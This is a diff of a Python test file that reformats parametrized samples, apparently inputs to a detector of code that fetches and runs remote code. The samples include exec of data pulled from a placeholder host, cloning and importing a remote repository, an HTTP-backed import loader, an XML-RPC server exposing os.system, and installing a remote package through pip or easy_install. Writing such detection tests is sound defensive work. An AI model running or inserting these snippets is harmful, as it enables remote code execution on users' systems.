@@ -75,14 +75,20 @@ def test_what_runs_nothing_of_others_is_passed(text: str) -> None:
         "import fsspec\nexec(fsspec.open('http://a.example.invalid/x').open().read())",
         "import pandas\nexec(pandas.read_csv('http://a.example.invalid/x').iloc[0, 0])",
         "import pymongo\nexec(pymongo.MongoClient('mongodb://a.example.invalid').d.c.find_one()['x'])",
-        ("import git, sys\ngit.Repo.clone_from('https://a.example.invalid/x.git', '/tmp/z')\n"
-        "sys.path.insert(0, '/tmp/z')\nimport fetched_one"),
-        ("import urllib.request, importlib.abc, importlib.util\n"
-        "class L(importlib.abc.InspectLoader):\n    def get_source(self, name):\n"
-        "        return urllib.request.urlopen('http://a.example.invalid/x').read().decode()\n"
-        "importlib.util.spec_from_loader('a', L())"),
-        ("import os\nfrom xmlrpc.server import SimpleXMLRPCServer as S\n"
-        "S(('0.0.0.0', 1)).register_function(os.system)"),
+        (
+            "import git, sys\ngit.Repo.clone_from('https://a.example.invalid/x.git', '/tmp/z')\n"
+            "sys.path.insert(0, '/tmp/z')\nimport fetched_one"
+        ),
+        (
+            "import urllib.request, importlib.abc, importlib.util\n"
+            "class L(importlib.abc.InspectLoader):\n    def get_source(self, name):\n"
+            "        return urllib.request.urlopen('http://a.example.invalid/x').read().decode()\n"
+            "importlib.util.spec_from_loader('a', L())"
+        ),
+        (
+            "import os\nfrom xmlrpc.server import SimpleXMLRPCServer as S\n"
+            "S(('0.0.0.0', 1)).register_function(os.system)"
+        ),
     ],
 )
 def test_what_was_fetched_is_followed_at_any_time(text: str) -> None:
@@ -93,10 +99,14 @@ def test_what_was_fetched_is_followed_at_any_time(text: str) -> None:
 @pytest.mark.parametrize(
     "text",
     [
-        ("from setuptools.command import easy_install\n"
-        "easy_install.main(['https://a.example.invalid/x.tgz'])"),
-        ("import runpy, sys\nsys.argv = ['pip', 'install', 'https://a.example.invalid/x.tgz']\n"
-        "runpy.run_module('pip', run_name='__main__')"),
+        (
+            "from setuptools.command import easy_install\n"
+            "easy_install.main(['https://a.example.invalid/x.tgz'])"
+        ),
+        (
+            "import runpy, sys\nsys.argv = ['pip', 'install', 'https://a.example.invalid/x.tgz']\n"
+            "runpy.run_module('pip', run_name='__main__')"
+        ),
     ],
 )
 def test_an_installer_is_run_as_a_module(text: str) -> None:
